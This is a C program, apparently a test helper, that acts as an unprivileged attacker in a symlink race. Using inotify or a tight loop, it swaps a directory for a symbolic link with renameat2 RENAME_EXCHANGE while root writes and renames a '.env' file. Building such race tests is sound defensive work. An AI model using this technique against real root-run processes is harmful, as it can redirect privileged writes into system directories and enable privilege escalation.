/* SPDX-License-Identifier: MIT */
/*
 * The attacker: a user who exchanges a directory for a symbolic link while root works in it.
 *
 * exchange UID REAL LINK STACK ETC watch|every|spin
 *
 * watch: uses inotify to hit the critical moments: the link is there while a new file is written, the real directory
 * while it is checked, the link again while it is renamed. every: whenever root opens, writes or renames something.
 * spin: as fast as possible. Prints "ready" and runs until killed.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

static const char *real_dir, *link_name;

static void exchange(void)
{
	renameat2(AT_FDCWD, real_dir, AT_FDCWD, link_name, RENAME_EXCHANGE);
}

static void spin(void)
{
	for (unsigned n = 0;; n++) {
		exchange();
		usleep(n * 7919 % 900);
	}
}

/* The event that each step waits for. */
static int is_due(int step, const struct inotify_event *e, int stack, int etc)
{
	switch (step) {
	case 0:
		return e->wd == stack && (e->mask & IN_CREATE) && strcmp(e->name, "..env.vpsfit-new") == 0;
	case 1:
		return e->wd == etc && (e->mask & IN_CREATE);
	case 2:
		return e->wd == stack && (e->mask & IN_MOVED_TO) && strcmp(e->name, ".env") == 0;
	default:
		return 0;
	}
}

static void watch(const char *stack_dir, const char *etc_dir, int every)
{
	char buffer[65536] __attribute__((aligned(8)));
	int in = inotify_init1(IN_CLOEXEC), step = 0;
	int stack = inotify_add_watch(in, stack_dir,
				      every ? IN_OPEN | IN_CLOSE | IN_CREATE | IN_MOVE : IN_CREATE | IN_MOVED_TO);
	int etc = inotify_add_watch(in, etc_dir, IN_CREATE);

	if (stack < 0 || etc < 0)
		exit(3);
	puts("ready");
	fflush(stdout);
	for (;;) {
		ssize_t n = read(in, buffer, sizeof(buffer));

		for (char *at = buffer; at < buffer + n;) {
			const struct inotify_event *e = (const struct inotify_event *)at;

			if (every || is_due(step, e, stack, etc)) {
				exchange();
				step++;
			}
			at += sizeof(*e) + e->len;
		}
	}
}

int main(int argc, char **argv)
{
	if (argc != 7 || setgid((gid_t)atoi(argv[1])) < 0 || setuid((uid_t)atoi(argv[1])) < 0)
		return 2;
	real_dir = argv[2];
	link_name = argv[3];
	if (strcmp(argv[6], "spin") != 0)
		watch(argv[4], argv[5], strcmp(argv[6], "every") == 0);
	puts("ready");
	fflush(stdout);
	spin();
}
